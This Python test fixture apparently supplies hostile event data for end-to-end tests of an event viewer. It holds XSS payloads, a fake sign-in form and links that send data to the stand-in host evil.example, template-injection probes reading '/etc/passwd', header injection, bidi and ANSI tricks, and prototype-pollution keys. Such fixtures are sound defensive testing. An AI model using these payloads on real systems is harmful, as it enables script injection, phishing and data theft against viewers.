"""What somebody who may only record events would put into them to reach whoever looks at them."""

from __future__ import annotations

import json

from tests.e2e.conftest import Event

CANARY = "taken over"  # no page has this for its title unless something of the below ran
_RUN = f"document.title='{CANARY}'"

TEXTS = {
    "script": f"<script>{_RUN};alert(1)</script>",
    "image": f'"><img src=nowhere onerror="{_RUN};alert(1)">',
    "quote": f"' autofocus onfocus={_RUN} x='",
    "end of script": f"</script></title></textarea><svg onload={_RUN}>",
    "javascript": f"javascript:{_RUN}//",
    "data": f"data:text/html,<script>{_RUN}</script>",
    "link": f'<a href="javascript:{_RUN}">click me</a> http://evil.example/?stolen=',
    "style": '<style>body{display:none}</style><link rel=stylesheet href="//evil.example/a.css">',
    "frame": '<iframe src="//evil.example/"></iframe><base href="//evil.example/"><object data="//evil.example/">',
    "refresh": '<meta http-equiv=refresh content="0;url=//evil.example/"><meta name="htmx-config" content="{}">',
    "form": '<form id=filters action="//evil.example/"><input name=username><button>Sign in</button></form>',
    "htmx": f'<div hx-get="/v1/users" hx-trigger="load" hx-on:load="{_RUN}" hx-on::load="{_RUN}">x</div>',
    "template": "{{7*7}} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %> #{7*7}",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e; &amp;amp;",
    "bidi": "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */ \u200b\u200e\u061c\ufeff",
    "ansi": "\x1b[2J\x1b[31mred\x1b]8;;http://evil.example\x07link\x1b]8;;\x07\x07\x08\x7f\x9b31m",
    "lines": "one\r\nSet-Cookie: a=b\r\n\r\n<b>two\n\ndata: {}\nevent: end\rid: 1\u2028\u2029\x0b\x0c\x85",
    "combining": "Z" + "\u0351\u0312\u0333" * 300 + "algo",
    "right to left": "مرحبا " * 40 + "שלום",
    "wide": "\ufdfd" * 200 + "𒐫" * 200 + "👩‍👩‍👧‍👦" * 100,
    "one word": "W" * 9_000,
    "surrogates": "\U000e0041\U000e0042\U0010ffff\ufffe",
    "prototype": "__proto__",
    "nothing": " ",
}


def everywhere(text: str) -> Event:
    """An event with the text in every field that takes one, and in keys and values of its attributes."""
    party = {"id": text, "type": text, "name": text}
    return {
        "service": text, "action": text, "actor": party, "target": party, "message": text, "trace_id": text,
        "span_id": text, "level": "error",
        "attributes": {text: text, "a": {text: [text, {text: None}]}, "__proto__": text, "constructor": text, "": text},
    }  # fmt: skip


def events() -> list[Event]:
    return [everywhere(text) for text in TEXTS.values()]


def longest_message() -> Event:
    """As large as an event may be: 256 KiB of JSON."""
    line = "<b>never ending</b> \u202e "
    return {"message": (line * 20_000)[: 200 * 1024 // 2], "level": "critical", "attributes": {"x": "y" * 100_000}}


def many_attributes() -> Event:
    event = {"message": "ten thousand attributes", "attributes": {f"key-{n}": f"<i>{n}" for n in range(10_000)}}
    assert len(json.dumps(event)) < 256 * 1024
    return event


def deep_attributes() -> Event:
    return {"message": "deep", "attributes": json.loads('{"a":' * 200 + "1" + "}" * 200)}
